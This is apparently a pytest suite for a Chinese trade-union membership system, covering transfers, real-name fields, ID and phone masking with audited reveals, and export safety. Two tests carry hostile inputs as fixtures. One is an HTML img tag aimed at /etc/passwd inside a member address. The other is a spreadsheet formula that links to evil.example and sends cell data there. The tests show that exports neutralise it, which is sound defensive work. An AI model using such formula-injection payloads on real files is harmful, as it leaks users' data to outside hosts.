"""Issue 11 for members: a retained member keeps the status across a transfer (item 7),
the national real-name collection's fields and the 农民工 rule (item 9), masked ID numbers
and phones with an audited reveal (item 10), typed and safe exports (items 11 and 15.3),
and a change log in words (item 12)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from federation.platform.audit.models import AuditEvent
from tenants.models import UnionRollup
from tests.workplaces.members.conftest import member_payload, unique_id

pytestmark = pytest.mark.django_db

PROFILE = {
    "ethnicity": "壮族",
    "political_status": "party_member",
    "education": "bachelor",
    "household_type": "rural",
    "household_place": "广西壮族自治区南宁市",
    "position": "装配工",
    "skill_level": "grade_4",
    "model_worker": True,
    "model_worker_level": "provincial",
    "card_no": "HZ-0001",
    "address": "杭州市西湖区文三路 1 号",
    "retirement_date": "2050-01-01",
}


@pytest.fixture
def a_finance(client_for, union_a):
    return client_for("a_finance", union_a)


@pytest.fixture
def a_chair(client_for, union_a):
    return client_for("a_chair", union_a)


def _add(api, **kw):
    r = api.post("/api/v1/members/", member_payload(**kw), format="json")
    assert r.status_code == 201, r.json()
    return r.json()


# --- item 7 ------------------------------------------------------------------------
def test_a_retained_member_who_transfers_stays_retained(a_org, b_org, union_b):
    member = _add(a_org, monthly_wage="6000.00")
    r = a_org.post(
        f"/api/v1/members/{member['id']}/leave/",
        {"status": "retired", "reason": "退休", "on": "2025-06-30"},
        format="json",
    )
    assert r.json()["status"] == "retained"
    tid = a_org.post(
        f"/api/v1/members/{member['id']}/transfer/", {"to_union": "union-b"}, format="json"
    ).json()["id"]
    arrived = b_org.post(f"/api/v1/transfers/{tid}/accept/")
    assert arrived.status_code == 200
    assert (arrived.json()["status"], arrived.json()["dues_monthly"]) == ("retained", "0.00")
    assert arrived.json()["history"][-1]["status"] == "retained"
    rollup = UnionRollup.objects.get(union=union_b)
    assert (rollup.members_active, rollup.members_retained) == (0, 1)


# --- item 9 ------------------------------------------------------------------------
def test_a_transfer_carries_the_collection_to_the_destination(a_org, b_org):
    member = _add(a_org, employment="dispatched", **PROFILE)
    tid = a_org.post(
        f"/api/v1/members/{member['id']}/transfer/", {"to_union": "union-b"}, format="json"
    ).json()["id"]
    arrived = b_org.post(f"/api/v1/transfers/{tid}/accept/")
    assert arrived.status_code == 200
    assert {k: arrived.json()[k] for k in PROFILE} == PROFILE
    assert (arrived.json()["employment"], arrived.json()["is_migrant"]) == ("dispatched", True)


def test_the_collection_fields_round_trip_through_the_api(a_org):
    member = _add(a_org, employment="contract", **PROFILE)
    got = a_org.get(f"/api/v1/members/{member['id']}/").json()
    assert {k: got[k] for k in PROFILE} == PROFILE
    assert got["employment"] == "contract"


def test_a_dispatched_worker_from_the_countryside_is_also_a_migrant_worker(a_org, union_a):
    from federation.reports.sources import source_value

    member = _add(a_org, employment="dispatched", household_type="rural")
    assert (member["employment"], member["is_migrant"]) == ("dispatched", True)
    _add(a_org, employment="regular", household_type="urban")
    legacy = _add(a_org, employment="migrant")
    assert legacy["is_migrant"] is True
    assert UnionRollup.objects.get(union=union_a).members_migrant == 2
    assert source_value("members.active.migrant", union_a) == 2


def test_a_bad_collection_value_is_a_400_naming_the_field(a_org):
    r = a_org.post(
        "/api/v1/members/", member_payload(ethnicity="火星族", education="phd"), format="json"
    )
    assert r.status_code == 400
    assert sorted(r.json()) == ["education", "ethnicity"]


def test_a_level_without_the_title_is_refused(a_org):
    r = a_org.post(
        "/api/v1/members/",
        member_payload(model_worker=False, model_worker_level="national"),
        format="json",
    )
    assert r.status_code == 400
    assert list(r.json()) == ["model_worker_level"]


def test_the_import_reads_the_collection_columns_in_chinese(a_org, union_a, in_union):
    from workplaces.members.models import Member

    number = unique_id("F")
    content = (
        "姓名,性别,身份证号,入会日期,用工形式,民族,政治面貌,学历,户籍类型,户籍地,岗位/职务,"
        "技能等级,是否劳模,劳模级别,会员卡号,家庭住址,退休日期\n"
        f"李娜,女,{number},2024-01-01,劳务派遣,回族,党员,本科,农村户口,安徽省阜阳市,质检员,"
        "高级工,是,省部级,K-9,宁波市鄞州区,2045-05-01\n"
    ).encode("gb18030")
    r = a_org.post(
        "/api/v1/members/import/",
        {"file": io.BytesIO(content)},
        format="multipart",
    )
    assert r.status_code == 200, r.json()
    assert (r.json()["created"], r.json()["errors"]) == (1, [])
    with in_union(union_a):
        m = Member.objects.get(id_number=number)
        assert (
            m.ethnicity,
            m.political_status,
            m.education,
            m.household_type,
            m.position,
            m.skill_level,
            m.model_worker,
            m.model_worker_level,
            m.card_no,
            m.retirement_date.isoformat(),
            m.employment,
            m.is_migrant,
        ) == (
            "回族",
            "party_member",
            "bachelor",
            "rural",
            "质检员",
            "grade_3",
            True,
            "provincial",
            "K-9",
            "2045-05-01",
            "dispatched",
            True,
        )


def test_the_template_has_drop_down_lists_and_a_sample_that_passes_the_checksum(a_org):
    from tenants.validators import parse_id_number

    r = a_org.get("/api/v1/members/import/template/")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb["会员导入"]
    header = [c.value for c in ws[1]]
    sample = dict(zip(header, [c.value for c in ws[2]], strict=False))
    number, _birth, _gender = parse_id_number(sample["身份证号"])
    assert number == sample["身份证号"]
    lists = {
        str(dv.sqref).split(":")[0][:-1]: dv.formula1 for dv in ws.data_validations.dataValidation
    }
    columns = {h: ws.cell(row=1, column=i + 1).column_letter for i, h in enumerate(header)}
    for title in (
        "性别",
        "用工形式",
        "民族",
        "政治面貌",
        "学历",
        "户籍类型",
        "技能等级",
        "是否劳模",
    ):
        assert columns[title] in lists, title
    options = [c.value for c in wb["选项"]["C"] if c.value]
    assert options[:3] == ["民族", "汉族", "蒙古族"]


def test_the_registration_form_is_a_pdf_with_the_record(a_org):
    from pypdf import PdfReader

    member = _add(a_org, name="王芳", gender="F", id_number=unique_id("F"), **PROFILE)
    r = a_org.get(f"/api/v1/members/{member['id']}/registration.pdf")
    assert r.status_code == 200
    assert r["Content-Type"] == "application/pdf"
    text = PdfReader(io.BytesIO(r.content)).pages[0].extract_text()
    assert "会员登记表" in text
    assert "王芳" in text
    assert "装配工" in text


def test_hostile_text_in_the_record_does_not_break_the_pdf(a_org):
    member = _add(a_org, address='<img src="/etc/passwd"/> <b>x', position="<font>")
    r = a_org.get(f"/api/v1/members/{member['id']}/registration.pdf")
    assert r.status_code == 200


def test_another_unions_member_has_no_registration_form(a_org, b_org):
    member = _add(b_org)
    assert a_org.get(f"/api/v1/members/{member['id']}/registration.pdf").status_code == 404


# --- item 10 -----------------------------------------------------------------------
def test_a_finance_officer_sees_the_id_number_and_phone_masked(a_org, a_finance):
    number = unique_id()
    member = _add(a_org, id_number=number, phone="13812345678")
    got = a_finance.get(f"/api/v1/members/{member['id']}/").json()
    assert got["id_number"] == number[:6] + "********" + number[-4:]
    assert (got["phone"], got["identity_masked"]) == ("138****5678", True)
    listed = a_finance.get("/api/v1/members/").json()["results"][0]
    assert (listed["id_number"], listed["phone"]) == (got["id_number"], "138****5678")


def test_the_chair_and_the_organization_officer_see_them_in_full(a_org, a_chair):
    number = unique_id()
    member = _add(a_org, id_number=number)
    for api in (a_org, a_chair):
        got = api.get(f"/api/v1/members/{member['id']}/").json()
        assert (got["id_number"], got["identity_masked"]) == (number, False)


def test_revealing_is_an_audited_action(a_org, a_finance, union_a, in_union):
    number = unique_id()
    member = _add(a_org, id_number=number, phone="13812345678")
    r = a_finance.post(f"/api/v1/members/{member['id']}/reveal/")
    assert r.status_code == 200
    assert r.json() == {"id_number": number, "phone": "13812345678"}
    with in_union(union_a):
        event = AuditEvent.objects.get(kind="member.revealed", object_id=str(member["id"]))
        assert (event.actor_name, event.after) == ("a_finance", {"fields": ["id_number", "phone"]})
        assert number not in str(event.after)


def test_revealing_another_unions_member_is_a_404(a_finance, b_org):
    member = _add(b_org)
    assert a_finance.post(f"/api/v1/members/{member['id']}/reveal/").status_code == 404


def test_a_masked_reader_exports_masked_numbers(a_org, a_finance):
    number = unique_id()
    _add(a_org, id_number=number)
    r = a_finance.get("/api/v1/members/export/?format=csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][3] == number[:6] + "********" + number[-4:]


def test_the_export_carries_the_collection_in_chinese_words(a_org):
    import datetime as dt

    _add(a_org, employment="dispatched", **PROFILE)
    ws = load_workbook(io.BytesIO(a_org.get("/api/v1/members/export/?format=xlsx").content)).active
    row = dict(zip([c.value for c in ws[1]], [c.value for c in ws[2]], strict=True))
    assert {k: row[k] for k in list(row)[6:]} == {
        "用工形式": "劳务派遣",
        "工会小组": None,
        "月工资": 4500,
        "月会费": 22.5,
        "入会日期": dt.datetime(2020, 3, 1),
        "状态": "在册",
        "是否农民工": "是",
        "民族": "壮族",
        "政治面貌": "中共党员",
        "学历": "大学本科",
        "户籍类型": "农村户口",
        "户籍地": "广西壮族自治区南宁市",
        "岗位/职务": "装配工",
        "技能等级": "中级工（四级）",
        "是否劳模": "是",
        "劳模级别": "省部级",
        "会员卡号": "HZ-0001",
        "家庭住址": "杭州市西湖区文三路 1 号",
        "退休日期": dt.datetime(2050, 1, 1),
    }


# --- items 11 and 15.3 -------------------------------------------------------------
def test_the_xlsx_export_has_typed_numbers_and_dates(a_org):
    import datetime as dt

    _add(a_org, monthly_wage="4510.00", joined_on="2021-05-04")
    r = a_org.get("/api/v1/members/export/?format=xlsx")
    ws = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in ws[1]]
    row = dict(zip(header, [c.value for c in ws[2]], strict=True))
    assert row["月工资"] == 4510
    assert row["月会费"] == 22.55
    assert row["入会日期"] == dt.datetime(2021, 5, 4)
    assert isinstance(row["会员号"], str)


def test_a_formula_like_group_name_stays_text_in_xlsx_and_csv(a_org, union_a, in_union):
    from workplaces.members.groups import group_create

    hostile = '=HYPERLINK("http://evil.example/x?d="&B3,"查看")'
    with in_union(union_a):
        group = group_create(name=hostile, actor=None)
    _add(a_org, group=str(group.pk))
    ws = load_workbook(io.BytesIO(a_org.get("/api/v1/members/export/?format=xlsx").content)).active
    cell = ws.cell(row=2, column=8)
    assert (cell.value, cell.data_type) == ("'" + hostile, "s")
    text = a_org.get("/api/v1/members/export/?format=csv").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][7] == "'" + hostile


# --- item 12 -----------------------------------------------------------------------
def test_the_change_log_shows_field_and_value_labels_in_chinese(
    client_for, union_a, in_union, make_member
):
    from django.contrib.auth import get_user_model
    from django.utils import translation

    from tests.conftest import HostClient, host_of
    from workplaces.members.groups import group_create
    from workplaces.members.services import member_leave, member_update

    member = make_member(union_a)
    with in_union(union_a):
        group = group_create(name="一车间小组", actor=None)
        member_update(member=member, actor=None, group=group, user=None)
        member_leave(member=member, status="retained", on=None, reason="退休", actor=None)
        page = HostClient(host_of(union_a))
        page.force_login(get_user_model().objects.get(username="a_organization"))
    page.cookies["django_language"] = "zh-hans"
    with translation.override("zh-hans"):
        html = page.get(f"/members/{member.pk}/").content.decode()
    log = html[html.index('id="audit"') :]
    assert "工会小组: 一车间小组" in log
    assert "工会小组: 1" not in log
    assert "状态: active" not in log
    assert "None" not in log
    assert "性别: M" not in log
    assert "性别: 男" in log


# --- item 9: the application asks what the register holds -------------------------------
def _apply(api, **kw):
    payload = member_payload(**kw)
    payload.pop("joined_on")
    return api.post("/api/v1/applications/", payload, format="json")


def test_an_application_records_the_collection_fields(a_org):
    r = _apply(a_org, employment="dispatched", **PROFILE)
    assert r.status_code == 201, r.json()
    assert {k: r.json()[k] for k in PROFILE} == PROFILE


def test_approval_carries_the_collection_fields_to_the_member(a_org):
    app_id = _apply(a_org, employment="dispatched", **PROFILE).json()["id"]
    r = a_org.post(f"/api/v1/applications/{app_id}/approve/", {}, format="json")
    assert r.status_code == 201, r.json()
    assert {k: r.json()[k] for k in PROFILE} == PROFILE
    assert (r.json()["employment"], r.json()["is_migrant"]) == ("dispatched", True)


def test_a_bad_collection_value_in_an_application_is_a_400_and_records_nothing(a_org):
    r = _apply(a_org, ethnicity="火星族", education="phd")
    assert r.status_code == 400
    assert sorted(r.json()) == ["education", "ethnicity"]
    assert a_org.get("/api/v1/applications/").json()["count"] == 0


def test_an_application_with_a_level_but_no_title_is_refused_by_the_rule(a_org):
    r = _apply(a_org, model_worker=False, model_worker_level="national")
    assert r.status_code == 400
    assert list(r.json()) == ["model_worker_level"]
    assert a_org.get("/api/v1/applications/").json()["count"] == 0


def test_the_application_page_asks_for_the_collection_fields(client_for, union_a, in_union):
    from django.contrib.auth import get_user_model

    from tests.conftest import HostClient, host_of
    from workplaces.members.models import Member, MembershipApplication

    page = HostClient(host_of(union_a))
    page.cookies["django_language"] = "en"
    with in_union(union_a):
        page.force_login(get_user_model().objects.get(username="a_organization"))
    html = page.get("/members/applications/").content.decode()
    for name in ("ethnicity", "political_status", "household_type", "skill_level", "card_no"):
        assert f'name="{name}"' in html
    data = member_payload(name="吴磊", ethnicity="汉族", education="college", position="电工")
    data.pop("joined_on")
    assert page.post("/members/applications/", data).status_code == 302
    with in_union(union_a):
        app = MembershipApplication.objects.get()
        assert (app.ethnicity, app.education, app.position) == ("汉族", "college", "电工")
    listed = page.get("/members/applications/").content.decode()
    record = listed.split('<details class="application-record">')[1].split("</details>")[0]
    assert "汉族" in record
    assert "电工" in record
    assert data["id_number"] in record  # the organization officer sees it in full
    assert page.post(f"/members/applications/{app.pk}/approve/").status_code == 302
    with in_union(union_a):
        member = Member.objects.get()
        assert (member.ethnicity, member.education, member.position) == ("汉族", "college", "电工")


def test_the_member_page_masks_for_a_finance_officer_and_reveals_on_an_audited_post(
    a_org, union_a, in_union
):
    """Item 10 on the pages: masked on the member's page and the roster; the reveal button
    shows the numbers once and writes the audit event."""
    from django.contrib.auth import get_user_model

    from tests.conftest import HostClient, host_of

    number = unique_id()
    member = _add(a_org, id_number=number, phone="13812345678")
    page = HostClient(host_of(union_a))
    with in_union(union_a):
        page.force_login(get_user_model().objects.get(username="a_finance"))
    html = page.get(f"/members/{member['id']}/").content.decode()
    assert number not in html
    assert number[:6] + "********" + number[-4:] in html
    assert "13812345678" not in page.get("/members/roster/").content.decode()
    revealed = page.post(f"/members/{member['id']}/reveal/")
    assert revealed.status_code == 200
    assert number in revealed.content.decode()
    with in_union(union_a):
        assert (
            AuditEvent.objects.filter(
                kind="member.revealed", object_id=str(member["id"]), actor_name="a_finance"
            ).count()
            == 1
        )


def test_a_vice_chair_reads_applications_with_the_numbers_masked(
    a_org, client_for, union_a, in_union
):
    """Item 10: an officer who manages admissions but is not entitled to the full numbers
    sees an application's ID number and phone masked, as on the member it becomes."""
    from federation.platform.accounts.services import user_create
    from tests.conftest import PASSWORD

    number = unique_id()
    app_id = _apply(a_org, id_number=number, phone="13812345678").json()["id"]
    with in_union(union_a):
        user_create(username="a_vice", password=PASSWORD, roles=["vice_chair"], validate=False)
    vice = client_for("a_vice", union_a)
    listed = vice.get("/api/v1/applications/").json()["results"]
    assert [(a["id"], a["id_number"], a["phone"]) for a in listed] == [
        (app_id, number[:6] + "********" + number[-4:], "138****5678")
    ]
    full = a_org.get("/api/v1/applications/").json()["results"][0]
    assert (full["id_number"], full["phone"]) == (number, "13812345678")
